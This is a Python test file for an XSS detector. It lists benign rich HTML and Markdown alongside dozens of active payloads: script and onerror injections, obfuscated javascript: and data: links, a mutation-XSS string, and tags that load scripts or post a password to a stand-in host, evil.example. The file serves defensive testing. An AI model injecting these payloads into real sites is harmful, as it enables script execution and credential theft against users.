"""XSS where people may write HTML or Markdown: rich text is rich, and never active."""

from __future__ import annotations

import pytest

from vallum.inspection.detectors.xss import DETECTOR
from vallum.inspection.model import Content, Context

RICH_AND_FINE = (
    "<b>bold</b> and <i>not</i>",
    '<a href="https://example.com/?a=1&amp;b=2" title="a &lt; b">link</a>',
    '<img src="https://example.com/x.png" alt="x"><br/>',
    "<p style=\"color: red; font-family: 'Open Sans'\">text</p>",
    '<table class="t"><tr><td width="5">1</td></tr></table>',
    "<p>In JavaScript, <code>'-alert(1)-'</code> is text; so is javascript: and onload=x().</p>",
    "Call alert(document.cookie) or `eval(x)`; see {{ name }}.",
    '<h2 id="a">Title</h2><ul><li>one</li></ul>',
)
RICH_AND_ACTIVE = (
    "<p>x</p><script>alert(1)</script>",
    "<script src=https://evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;ava&Tab;script:alert(1)">x</a>',
    '<a href="data:text/html,<b>x">x</a>',
    "<iframe src=https://evil.example></iframe>",
    '<form action="https://evil.example/"><input name=password>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import url(//evil.example);</style>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">'
    ),
    "<p>x</p>\n\n<svg><use href=//evil.example/x.svg#x></svg>",
)


def _score(text: str, content: Content) -> int:
    judgement = DETECTOR.judge(text, Context("query", "q", content))
    return judgement.score if judgement else 0


@pytest.mark.parametrize("content", ["html", "markdown"])
@pytest.mark.parametrize("text", RICH_AND_FINE)
def test_rich_text_may_be_rich(text: str, content: Content) -> None:
    assert _score(text, content) <= 4


@pytest.mark.parametrize("content", ["html", "markdown"])
@pytest.mark.parametrize("text", RICH_AND_ACTIVE)
def test_rich_text_may_not_be_active(text: str, content: Content) -> None:
    assert _score(text, content) >= 7


def test_code_in_markdown_is_shown_and_never_markup() -> None:
    fenced = "An example:\n\n```html\n<script>alert(1)</script>\n```\n\nAnd `<svg onload=x()>`."

    assert _score(fenced, "markdown") == 0
    assert _score(fenced, "text") >= 5


@pytest.mark.parametrize(
    "text",
    [
        '<img alt="`" src=x onerror=alert(1) title="`">',
        "<div>\n```\n<script>alert(1)</script>\n```\n</div>",
        "`code` <img src=x onerror=alert(1)>",
        "<p title=`>` <img src=x onerror=alert(1)> `",
        "\\` <img src=x onerror=alert(1)> `",
        "`\n# <img src=x onerror=alert(1)> `",
        "a | b\n-|-\n` | <img src=x onerror=alert(1)> | `",
        "```\nx\n```js\n\n```\n<script>alert(1)</script>\n```",
        "```\nx\n  ```\n<script>alert(1)</script>\n\n```\nx\n```",
        "<pre>\n\n```\n<script>alert(1)</script>\n```\n</pre>",
        "```\n<script>alert(1)</script>",
    ],
)
def test_markup_does_not_hide_between_marks_of_markdown(text: str) -> None:
    assert _score(text, "markdown") >= 7


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "![x](<javascript:alert(1)>)",
        "[x]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "[x](java&Tab;script&colon;alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
    ],
)
def test_links_of_markdown_run_too(text: str) -> None:
    assert _score(text, "markdown") >= 7


def test_a_window_of_a_longer_text_has_no_code_that_is_known_to_be_code() -> None:
    text = "```\n<script>alert(1)</script>\n```"
    whole = Context("body", "note", "markdown")

    assert DETECTOR.judge(text, whole) is None
    assert DETECTOR.judge(text, whole._replace(is_part=True)) is not None


def test_references_are_text_where_html_is_expected() -> None:
    written = Context("body", "note", "html", layers=("html",))
    judgement = DETECTOR.judge("<script>alert(1)</script>", written)

    assert judgement is not None
    assert judgement.score <= 4
